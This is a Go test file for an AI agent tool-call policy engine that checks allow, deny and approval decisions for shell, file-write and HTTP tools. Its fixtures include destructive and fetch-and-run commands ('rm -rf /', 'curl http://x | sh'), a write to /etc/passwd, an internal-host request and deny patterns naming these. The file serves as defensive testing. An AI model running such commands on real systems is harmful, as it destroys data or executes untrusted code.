package service

import (
	"testing"

	"github.com/runestone-labs/gatekeeper/internal/domain/envelope"
	"github.com/runestone-labs/gatekeeper/internal/domain/policy"
)

func denyOnlyPolicy() *policy.Policy {
	return &policy.Policy{
		Tools: map[string]*policy.ToolPolicy{
			"shell.exec": {Decision: policy.DecisionAllow, AllowedCommands: []string{"ls"}, MaxTimeoutMs: 5000},
			"files.write": {Decision: policy.DecisionAllow, AllowedPaths: []string{"/tmp/"},
				DenyExtensions: []string{".sh"}, MaxSizeBytes: 100},
			"http.request": {Decision: policy.DecisionAllow, AllowedMethods: []string{"GET"},
				AllowedDomains: []string{"api.example.com"}, DenyDomains: []string{"evil.example.com"}},
		},
	}
}

func TestEvaluateUnknownTool(t *testing.T) {
	eval := Evaluate("unknown.tool", map[string]interface{}{}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonUnknownTool {
		t.Fatalf("expected unknown-tool deny, got %+v", eval)
	}
}

func TestEvaluateTaintedShellExecRequiresApproval(t *testing.T) {
	env := &envelope.Envelope{Taint: []string{envelope.TaintExternal}}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, denyOnlyPolicy(), env)
	if eval.Decision != policy.DecisionApprove || eval.ReasonCode != policy.ReasonTaintedExec {
		t.Fatalf("expected tainted exec approve, got %+v", eval)
	}
}

func TestEvaluateTaintedWriteToSystemPathDenied(t *testing.T) {
	env := &envelope.Envelope{Taint: []string{envelope.TaintUntrusted}}
	eval := Evaluate("files.write", map[string]interface{}{"path": "/etc/passwd"}, denyOnlyPolicy(), env)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonTaintedWriteSystemPath {
		t.Fatalf("expected tainted system-path write deny, got %+v", eval)
	}
}

func TestEvaluateTaintedWriteOutsideSystemPathRequiresApproval(t *testing.T) {
	env := &envelope.Envelope{Taint: []string{envelope.TaintExternal}}
	eval := Evaluate("files.write", map[string]interface{}{"path": "/tmp/notes.txt"}, denyOnlyPolicy(), env)
	if eval.Decision != policy.DecisionApprove || eval.ReasonCode != policy.ReasonTaintedWrite {
		t.Fatalf("expected tainted write approve, got %+v", eval)
	}
}

func TestEvaluateTaintedHTTPRequestToInternalHostDenied(t *testing.T) {
	env := &envelope.Envelope{Taint: []string{envelope.TaintExternal}}
	eval := Evaluate("http.request", map[string]interface{}{"url": "http://127.0.0.1/admin"}, denyOnlyPolicy(), env)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonInternalHost {
		t.Fatalf("expected internal host deny, got %+v", eval)
	}
}

func TestEvaluateTaintedHTTPRequestToExternalHostFallsThrough(t *testing.T) {
	env := &envelope.Envelope{Taint: []string{envelope.TaintExternal}}
	eval := Evaluate("http.request", map[string]interface{}{"url": "http://api.example.com/widgets", "method": "GET"}, denyOnlyPolicy(), env)
	if eval.Decision != policy.DecisionAllow || eval.ReasonCode != policy.ReasonPolicyAllow {
		t.Fatalf("expected ordinary external domain to fall through to the tool default, got %+v", eval)
	}
}

func TestEvaluatePrincipalDenyPatternTakesPrecedence(t *testing.T) {
	p := denyOnlyPolicy()
	p.Principals = map[string]*policy.PrincipalPolicy{
		"deployer": {DenyPatterns: []string{"rm -rf"}},
	}
	env := &envelope.Envelope{Actor: envelope.Actor{Name: "deployer"}}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "rm -rf /"}, p, env)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonPrincipalDenyPattern {
		t.Fatalf("expected principal deny pattern match, got %+v", eval)
	}
}

func TestEvaluatePrincipalRequireApprovalOverridesAllowedTools(t *testing.T) {
	p := denyOnlyPolicy()
	p.Principals = map[string]*policy.PrincipalPolicy{
		"deployer": {AllowedTools: []string{"shell.exec"}, RequireApproval: []string{"shell.exec"}},
	}
	env := &envelope.Envelope{Actor: envelope.Actor{Name: "deployer"}}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, p, env)
	if eval.Decision != policy.DecisionApprove || eval.ReasonCode != policy.ReasonPrincipalApprovalRequired {
		t.Fatalf("expected require-approval to win over allowed, got %+v", eval)
	}
}

func TestEvaluatePrincipalToolNotAllowed(t *testing.T) {
	p := denyOnlyPolicy()
	p.Principals = map[string]*policy.PrincipalPolicy{
		"readonly": {AllowedTools: []string{"files.write"}},
	}
	env := &envelope.Envelope{Actor: envelope.Actor{Name: "readonly"}}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, p, env)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonPrincipalToolNotAllowed {
		t.Fatalf("expected tool-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateGlobalDenyPattern(t *testing.T) {
	p := denyOnlyPolicy()
	p.GlobalDenyPatterns = []string{"curl .* \\| sh"}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "curl http://x | sh"}, p, nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonGlobalDenyPattern {
		t.Fatalf("expected global deny pattern match, got %+v", eval)
	}
}

func TestEvaluateToolDenyPattern(t *testing.T) {
	p := denyOnlyPolicy()
	p.Tools["shell.exec"].DenyPatterns = []string{"rm -rf"}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "rm -rf /tmp"}, p, nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonToolDenyPattern {
		t.Fatalf("expected tool deny pattern match, got %+v", eval)
	}
}

func TestEvaluateShellExecCWDNotAllowed(t *testing.T) {
	p := denyOnlyPolicy()
	p.Tools["shell.exec"].AllowedCWDPrefixes = []string{"/home/deployer"}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls", "cwd": "/root"}, p, nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonCWDNotAllowed {
		t.Fatalf("expected cwd-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateShellExecCommandNotAllowed(t *testing.T) {
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "rm -rf /"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonCommandNotAllowed {
		t.Fatalf("expected command-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateShellExecTimeoutExceeded(t *testing.T) {
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls", "timeoutMs": float64(60000)}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonTimeoutExceeded {
		t.Fatalf("expected timeout-exceeded deny, got %+v", eval)
	}
}

func TestEvaluateFilesWriteMissingPath(t *testing.T) {
	eval := Evaluate("files.write", map[string]interface{}{}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonMissingPath {
		t.Fatalf("expected missing-path deny, got %+v", eval)
	}
}

func TestEvaluateFilesWritePathNotAllowed(t *testing.T) {
	eval := Evaluate("files.write", map[string]interface{}{"path": "/opt/data.txt"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonPathNotAllowed {
		t.Fatalf("expected path-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateFilesWriteExtensionDenied(t *testing.T) {
	eval := Evaluate("files.write", map[string]interface{}{"path": "/tmp/install.sh"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonExtensionDenied {
		t.Fatalf("expected extension-denied deny, got %+v", eval)
	}
}

func TestEvaluateFilesWriteSizeExceeded(t *testing.T) {
	big := make([]byte, 200)
	eval := Evaluate("files.write", map[string]interface{}{"path": "/tmp/data.txt", "content": string(big)}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonSizeExceeded {
		t.Fatalf("expected size-exceeded deny, got %+v", eval)
	}
}

func TestEvaluateHTTPRequestMissingURL(t *testing.T) {
	eval := Evaluate("http.request", map[string]interface{}{}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonMissingURL {
		t.Fatalf("expected missing-url deny, got %+v", eval)
	}
}

func TestEvaluateHTTPRequestInvalidURL(t *testing.T) {
	eval := Evaluate("http.request", map[string]interface{}{"url": "://not-a-url"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonInvalidURL {
		t.Fatalf("expected invalid-url deny, got %+v", eval)
	}
}

func TestEvaluateHTTPRequestMethodNotAllowed(t *testing.T) {
	eval := Evaluate("http.request", map[string]interface{}{"url": "https://api.example.com/x", "method": "POST"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonMethodNotAllowed {
		t.Fatalf("expected method-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateHTTPRequestDomainDenied(t *testing.T) {
	p := denyOnlyPolicy()
	eval := Evaluate("http.request", map[string]interface{}{"url": "https://evil.example.com/x", "method": "GET"}, p, nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonDomainDenied {
		t.Fatalf("expected domain-denied deny, got %+v", eval)
	}
}

func TestEvaluateHTTPRequestDomainNotAllowed(t *testing.T) {
	eval := Evaluate("http.request", map[string]interface{}{"url": "https://other.example.com/x", "method": "GET"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionDeny || eval.ReasonCode != policy.ReasonDomainNotAllowed {
		t.Fatalf("expected domain-not-allowed deny, got %+v", eval)
	}
}

func TestEvaluateDomainSuffixAllowsSubdomainNotApex(t *testing.T) {
	p := denyOnlyPolicy()
	p.Tools["http.request"].AllowedDomains = []string{"*.example.com"}
	subEval := Evaluate("http.request", map[string]interface{}{"url": "https://foo.example.com/x", "method": "GET"}, p, nil)
	if subEval.Decision != policy.DecisionAllow {
		t.Fatalf("expected subdomain to be allowed, got %+v", subEval)
	}
	apexEval := Evaluate("http.request", map[string]interface{}{"url": "https://example.com/x", "method": "GET"}, p, nil)
	if apexEval.Decision != policy.DecisionDeny {
		t.Fatalf("expected apex domain to remain denied under wildcard-only rule, got %+v", apexEval)
	}
}

func TestEvaluateDefaultDecisionAllow(t *testing.T) {
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, denyOnlyPolicy(), nil)
	if eval.Decision != policy.DecisionAllow || eval.ReasonCode != policy.ReasonPolicyAllow {
		t.Fatalf("expected default allow, got %+v", eval)
	}
}

func TestEvaluateDefaultDecisionApprove(t *testing.T) {
	p := denyOnlyPolicy()
	p.Tools["shell.exec"].Decision = policy.DecisionApprove
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, p, nil)
	if eval.Decision != policy.DecisionApprove || eval.ReasonCode != policy.ReasonPolicyApprovalRequired {
		t.Fatalf("expected default approve, got %+v", eval)
	}
}

func TestEvaluateInvalidRegexSkippedNotTreatedAsMatch(t *testing.T) {
	p := denyOnlyPolicy()
	p.GlobalDenyPatterns = []string{"("}
	eval := Evaluate("shell.exec", map[string]interface{}{"command": "ls"}, p, nil)
	if eval.Decision != policy.DecisionAllow {
		t.Fatalf("expected invalid regex to be skipped, not matched, got %+v", eval)
	}
}

func TestEvaluateDeterministicForSameInputs(t *testing.T) {
	p := denyOnlyPolicy()
	args := map[string]interface{}{"command": "ls"}
	first := Evaluate("shell.exec", args, p, nil)
	second := Evaluate("shell.exec", args, p, nil)
	if first.Decision != second.Decision || first.ReasonCode != second.ReasonCode {
		t.Fatalf("expected identical evaluations for identical inputs, got %+v vs %+v", first, second)
	}
}
